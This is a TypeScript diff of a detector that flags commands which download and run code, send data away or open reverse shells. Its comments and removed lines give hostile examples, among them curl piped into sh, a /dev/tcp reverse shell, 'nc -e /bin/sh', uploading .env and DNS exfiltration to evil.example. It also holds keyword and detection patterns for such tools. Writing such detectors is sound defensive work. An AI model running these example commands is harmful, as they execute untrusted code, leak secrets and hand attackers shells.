@@ -1,5 +1,21 @@
 // Commands in an answer that fetch something and run it, or that send data away; judged a line at a time.
-import { hostOf, isWellKnown, judgeUrl, type AllowedUrls } from './urls';
+import {
+  ASKS_NAME,
+  CODE_SENDS_SECRETS,
+  COPIES_SECRETS,
+  DECODES,
+  DOWNLOAD_AND_RUN,
+  FETCHES,
+  PACKAGE_OF_ADDRESS,
+  PIPED_INTO,
+  REVERSE_SHELLS,
+  RUNS_DECODED,
+  SENDS,
+  SENDS_BY_NETCAT,
+  SENDS_IN_ADDRESS,
+  SENDS_OWN,
+} from './commandPatterns';
+import { isLocal, isPublishing, isWellKnown, judgeUrl, type AllowedUrls } from './urls';
 
 export type CommandConcern = 'download-and-run' | 'send-data' | 'reverse-shell';
 
@@ -11,75 +27,105 @@ export interface CommandFinding {
 }
 
 const LONGEST_LINE = 4000;
+/** Without one of these words no pattern can match. */
+const WORTH_A_LOOK =
+  /curl|wget|fetch|aria2c|iwr|irm|invoke|download|upload|powershell|pwsh|certutil|mshta|msiexec|regsvr32|bitsadmin|rundll32|base64|base32|b64|atob|xxd|openssl|exec|eval|system|spawn|socket|socat|telnet|mkfifo|mknod|\/dev\/|\bnc|nslookup|\bdig|\bhost|ping|resolve|scp|rsync|sftp|requests|axios|npx|bunx|\bbun|deno|\bpip|npm|yarn|\buv|lynx|https?\s|tcp/i;
 
-// Hits `curl -fsSL https://x/i.sh | sh`; not `curl -o file https://x`.
-const FETCH_PIPE_SHELL =
-  /\b(?:curl|wget|fetch|http)\b[^\n|]{1,600}\|\s{0,4}(?:sudo\s{1,4}(?:-\w{1,4}\s{1,4})?)?(?:ba|z|da|k|fi)?(?:sh|python3?|perl|node|ruby|php|osascript|powershell|pwsh)\b/i;
-// Hits `bash <(curl …)`, `sh -c "$(wget …)"`, `eval "$(curl …)"`, `python -c "$(curl …)"`.
-const SHELL_OF_FETCH =
-  /\b(?:(?:ba|z|da)?sh|eval|source|python3?|node|perl)\b[^\n]{0,40}(?:<\(|\$\(|`)\s{0,4}(?:curl|wget)\b/i;
-// Hits `iwr https://x | iex`, `iex (New-Object Net.WebClient).DownloadString(…)`, `irm x | iex`.
-const POWERSHELL =
-  /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|start-bitstransfer|net\.webclient)\b[^\n]{0,600}\b(?:iex|invoke-expression|start-process)\b|\b(?:iex|invoke-expression)\b[^\n]{0,200}\b(?:iwr|irm|invoke-webrequest|downloadstring|net\.webclient)\b/i;
-// Hits `powershell -enc SQBFAFgA…`, `certutil -urlcache -f http://x a.exe`, `mshta http://x`, `regsvr32 /i:http://x`.
-const LIVING_OFF =
-  /\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-(?:e|en|enc|encodedcommand)\s{1,4}[A-Za-z0-9+/=]{16}|\bcertutil\b[^\n]{0,80}-urlcache|\bmshta\b\s{1,4}["']?https?:|\bregsvr32\b[^\n]{0,60}https?:|\bbitsadmin\b[^\n]{0,60}\/transfer|\brundll32\b[^\n]{0,60}(?:javascript|https?):/i;
-// Hits `curl -o a https://x && chmod +x a && ./a`, `wget https://x/a; sh a`.
-const FETCH_THEN_RUN =
-  /\b(?:curl|wget)\b[^\n]{1,400}(?:&&|;)[^\n]{0,200}(?:chmod\s{1,4}(?:\+x|[0-7]{3})|\b(?:ba)?sh\s{1,4}\S|\.\/\w)/i;
-// Hits `exec(requests.get(url).text)`, `eval(await (await fetch(u)).text())`, `base64 -d | sh`.
-const CODE_OF_FETCH =
-  /\b(?:exec|eval)\s{0,2}\([^\n]{0,80}(?:requests\.get|urlopen|fetch\s{0,2}\(|http\.get)[^\n]{0,200}|\bbase64\s{1,4}(?:-d|--decode|-D)\b[^\n|]{0,100}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z)?sh\b/i;
-// Hits `bash -i >& /dev/tcp/1.2.3.4/443`, `nc -e /bin/sh 1.2.3.4 443`.
-const REVERSE_SHELL =
-  /\/dev\/(?:tcp|udp)\/\S{3,80}\/\d|\bn(?:c|cat)\b[^\n]{0,60}\s-[a-z]{0,3}e\b[^\n]{0,40}(?:sh|cmd)/i;
-// Hits `curl -d "text" https://x`, `curl -F file=@.env https://x`, `wget --post-file=.env http://x`.
-const SENDS =
-  /\b(?:curl\b[^\n|]{0,300}\s(?:-d|--data(?:-\w{3,10})?|-F|--form|-T|--upload-file)\b|wget\b[^\n|]{0,300}--post-(?:data|file))/i;
-// Hits `nslookup 7573…2e.evil.example`, `dig $(cat .env).evil.example`.
-const DNS =
-  /\b(?:nslookup|dig|host|ping|resolve-dnsname)\b[^\n]{0,40}(?:[0-9a-z]{24,63}\.[\w.-]{3,80}|\$\([^)\n]{2,80}\)[\w.-]{0,80})/i;
+// Hits `localhost:8080`, `x.example/c`; a file is told from a host by its ending.
+const BARE_HOST = /[\s"'](localhost|127\.0\.0\.1|\[::1\]|(?:[a-z0-9-]{1,40}\.){1,4}[a-z]{2,24})(?=[:/\s"'|]|$)/gi;
+const FILE =
+  /\.(?:json|ya?ml|toml|xml|txt|md|csv|log|env|sh|bash|ps1|py|js|ts|rb|pl|exe|msi|zip|t?gz|tar|bin|sql|html?|pdf|png|jpe?g|conf|cfg|ini|pem|key|crt|lock|out|tmp|bak|dat|db)$/;
 
-/** Judges one line (without its line end). */
+/** Whether a command goes on in the next line: `curl … \`, `curl … |`. */
+export function goesOn(line: string): boolean {
+  return /\\\s{0,4}$/.test(line) || (/(?:\||&&)\s{0,4}$/.test(line) && !/^\s{0,4}\|/.test(line));
+}
+
+/** Judges one command (without its line end). */
 export function judgeCommand(line: string, allowed: AllowedUrls | undefined): CommandFinding | undefined {
   const text = line.slice(0, LONGEST_LINE);
-  if (
-    !/curl|wget|fetch|iwr|irm|invoke|download|powershell|certutil|mshta|regsvr32|bitsadmin|rundll32|base64|exec|eval|\/dev\/|\bnc|nslookup|\bdig|\bhost|ping|resolve/i.test(
-      text,
-    )
-  )
+  if (!WORTH_A_LOOK.test(text)) return undefined;
+  const hosts = hostsIn(text);
+  const trust = (trusted: (host: string) => boolean): boolean => hosts.length > 0 && hosts.every(trusted);
+  // Named in the context, or this machine: no surprise, even where something is sent.
+  const isKnown = (host: string): boolean => allowed?.hasHost(host) === true || isLocal(host);
+  const isVouchedFor = (host: string): boolean => isKnown(host) || (isWellKnown(host) && !isPublishing(host));
+  const isPackageHost = (host: string): boolean => isKnown(host) || isWellKnown(host);
+
+  return (
+    firstOf('reverse-shell', text, REVERSE_SHELLS) ??
+    firstOf('download-and-run', text, [RUNS_DECODED]) ??
+    pipedFrom(text, DECODES) ??
+    (trust(isVouchedFor)
+      ? undefined
+      : (pipedFrom(text, FETCHES) ?? firstOf('download-and-run', text, DOWNLOAD_AND_RUN))) ??
+    (trust(isPackageHost) ? undefined : firstOf('download-and-run', text, [PACKAGE_OF_ADDRESS])) ??
+    (trust(isKnown) ? undefined : firstOf('send-data', text, [SENDS_BY_NETCAT, COPIES_SECRETS, CODE_SENDS_SECRETS])) ??
+    sent(text, hosts.length > 0, trust(isKnown), trust(isVouchedFor)) ??
+    nameAsked(text)
+  );
+}
+
+/** A request with a body: what is written out may go where documentation points, what is taken from this machine may not. */
+function sent(text: string, hasHost: boolean, isKnown: boolean, isVouchedFor: boolean): CommandFinding | undefined {
+  if (!hasHost || isKnown) return undefined;
+  const inAddress = firstOf('send-data', text, [SENDS_IN_ADDRESS]);
+  if (inAddress !== undefined && !isVouchedFor) return inAddress;
+  const finding = firstOf('send-data', text, SENDS);
+  return isVouchedFor && !SENDS_OWN.test(text) ? undefined : finding;
+}
+
+/** A name that is looked up and carries data; those of a local network leave it as little as those of a cloud's machines do. */
+function nameAsked(text: string): CommandFinding | undefined {
+  const match = ASKS_NAME.exec(text);
+  if (match === null || /\.(?:local|internal|lan|home|corp|test|localhost|amazonaws\.com)\.?$/i.test(match[1] ?? ''))
     return undefined;
-  const found = (concern: CommandConcern, pattern: RegExp): CommandFinding | undefined => {
-    const match = pattern.exec(text);
-    return match === null ? undefined : { concern, start: match.index, end: match.index + match[0].length };
-  };
-  const reverse = found('reverse-shell', REVERSE_SHELL);
-  if (reverse !== undefined) return reverse;
-  const urls = Array.from(text.matchAll(/https?:\/\/[^\s"'`)|;<>]{1,1000}/gi), (match) => match[0]);
-  // A known source (in the context, or one that documentation names all the time) is still code from the network,
-  // but not a surprise.
-  const trusted =
-    urls.length > 0 &&
-    urls.every(
-      (url) =>
-        allowed?.hasHost(hostOf(url)) === true ||
-        (isWellKnown(hostOf(url)) && judgeUrl(url, undefined).concerns.length === 0),
-    );
-  if (!trusted) {
-    for (const pattern of [FETCH_PIPE_SHELL, SHELL_OF_FETCH, POWERSHELL, LIVING_OFF, FETCH_THEN_RUN, CODE_OF_FETCH]) {
-      const finding = found('download-and-run', pattern);
-      if (finding !== undefined) return finding;
-    }
-    const local =
-      urls.length > 0 &&
-      urls.every(
-        (url) =>
-          judgeUrl(url, undefined).concerns.length === 0 && /^https?:\/\/(?:localhost|127\.0\.0\.1|\[::1\])/i.test(url),
-      );
-    if (urls.length > 0 && !local) {
-      const finding = found('send-data', SENDS);
-      if (finding !== undefined) return finding;
-    }
+  return { concern: 'send-data', start: match.index, end: match.index + match[0].length };
+}
+
+/** Output of this that becomes the program of an interpreter. */
+function pipedFrom(text: string, source: RegExp): CommandFinding | undefined {
+  const from = source.exec(text);
+  if (from === null) return undefined;
+  // In a row of a table a bare pipe parts the cells.
+  const isRow = /^\s{0,4}\|/.test(text);
+  for (const pipe of text.slice(from.index).matchAll(PIPED_INTO)) {
+    if (isRow && text[from.index + pipe.index - 1] !== '\\') continue;
+    const end = from.index + pipe.index + pipe[0].length;
+    if (readsProgram(pipe[1] ?? '', text.slice(end))) return { concern: 'download-and-run', start: from.index, end };
   }
-  return found('send-data', DNS);
+  return undefined;
+}
+
+/** Whether an interpreter takes its program from its input: `sh -s -- x`, `python3 -`; not `python3 -m json.tool`. */
+function readsProgram(interpreter: string, rest: string): boolean {
+  const isShell = /sh$/i.test(interpreter);
+  const own = isShell ? /^-\w{0,6}c$/ : /^(?:-\w{0,6}[cempr]|-n\w{0,4}|-l?[ap]?n?e|--eval|--print|--require)$/;
+  for (const word of /^[^|;&<>()`\n]{0,200}/.exec(rest)?.[0].split(/\s+/) ?? []) {
+    if (word === '-' || (isShell && /^-\w{0,4}s$/.test(word)) || word === '/dev/stdin') return true;
+    if (own.test(word) || /^["']?[\w~$-]{0,60}[./\\]\w/.test(word)) return false;
+  }
+  return true;
+}
+
+/** The hosts that a command names: in addresses, and this machine without one, as `curl localhost:8080`. */
+function hostsIn(text: string): readonly string[] {
+  const addresses = Array.from(text.matchAll(/https?:\/\/[^\s"'`)|;<>]{1,1000}/gi), (match) => match[0]);
+  // An address that disguises where it leads is nobody's.
+  const hosts = addresses.map((address) => {
+    const { host, concerns } = judgeUrl(address.split(/[$%{]/, 1)[0] ?? '', undefined);
+    return concerns.includes('disguised-host') ? '?' : host;
+  });
+  if (addresses.length > 0) return hosts;
+  return Array.from(text.matchAll(BARE_HOST), (match) => (match[1] ?? '').toLowerCase()).filter(
+    (name) => !FILE.test(name),
+  );
+}
+
+function firstOf(concern: CommandConcern, text: string, patterns: readonly RegExp[]): CommandFinding | undefined {
+  for (const pattern of patterns) {
+    const match = pattern.exec(text);
+    if (match !== null) return { concern, start: match.index, end: match.index + match[0].length };
+  }
+  return undefined;
 }
